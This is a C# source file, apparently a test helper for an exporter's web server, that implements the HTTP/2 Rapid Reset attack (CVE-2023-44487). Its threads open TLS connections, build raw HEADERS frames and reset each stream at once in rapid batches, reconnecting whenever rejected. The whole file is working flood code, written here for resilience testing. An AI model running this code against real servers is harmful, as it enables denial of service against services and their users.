using System.Buffers.Binary;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Security.Authentication;

namespace TcpStatExporter.EndToEnd.Web;

/// <summary>
/// Clients that request HTTP/2 and, if they get it, open streams and reset each one at once (CVE-2023-44487). They reconnect
/// as soon as they are rejected.
/// </summary>
internal sealed class ResettingClients : IDisposable
{
    private const byte Headers = 1;
    private const byte ResetStream = 3;
    private const byte Settings = 4;
    private const byte EndOfStreamAndHeaders = 5;

    private readonly Thread[] _threads;
    private volatile bool _stopped;
    private int _connections;

    /// <summary>Starts the clients.</summary>
    /// <param name="ns">The namespace.</param>
    /// <param name="server">The server to attack.</param>
    /// <param name="count">Number of clients.</param>
    public ResettingClients(NetNamespace ns, IPEndPoint server, int count)
    {
        _threads = [.. Enumerable.Range(0, count).Select(_ => new Thread(() => ns.Run(() => Attack(server))) { IsBackground = true, Name = nameof(ResettingClients) })];
        Array.ForEach(_threads, thread => thread.Start());
    }

    /// <summary>Number of connections so far.</summary>
    public int Connections => Volatile.Read(ref _connections);

    public void Dispose()
    {
        _stopped = true;
        Array.ForEach(_threads, thread => thread.Join());
    }

    private static byte[] Frame(byte type, byte flags, int stream, params ReadOnlySpan<byte> payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        (frame[3], frame[4]) = (type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame.AsSpan(9));
        return frame;
    }

    private void Attack(IPEndPoint server)
    {
        while (!_stopped)
        {
            using var socket = new Socket(server.AddressFamily, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true, ReceiveTimeout = 5_000, SendTimeout = 5_000 };
            try
            {
                socket.Connect(server);
                Interlocked.Increment(ref _connections);
                using var tls = new SslStream(new NetworkStream(socket), leaveInnerStreamOpen: false, (_, _, _, errors) => !errors.HasFlag(SslPolicyErrors.RemoteCertificateNotAvailable));
                tls.AuthenticateAsClient(new SslClientAuthenticationOptions
                {
                    TargetHost = "localhost",
                    ApplicationProtocols = [SslApplicationProtocol.Http2, SslApplicationProtocol.Http11],
                });
                Reset(tls);
            }
            catch (Exception exception) when (exception is IOException or SocketException or AuthenticationException)
            {
                // rejected
            }
        }
    }

    private void Reset(SslStream tls)
    {
        tls.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        tls.Write(Frame(Settings, 0, 0));

        // GET https://localhost/metrics, with the static table of HPACK (RFC 7541)
        byte[] request = [0x82, 0x87, 0x04, 8, .. "/metrics"u8, 0x41, 9, .. "localhost"u8];
        for (var stream = 1; !_stopped; stream += 100)
        {
            tls.Write([.. Enumerable.Range(0, 50).SelectMany(i =>
                (byte[])[.. Frame(Headers, EndOfStreamAndHeaders, stream + (2 * i), request), .. Frame(ResetStream, 0, stream + (2 * i), 0, 0, 0, 8)])]);
        }
    }
}
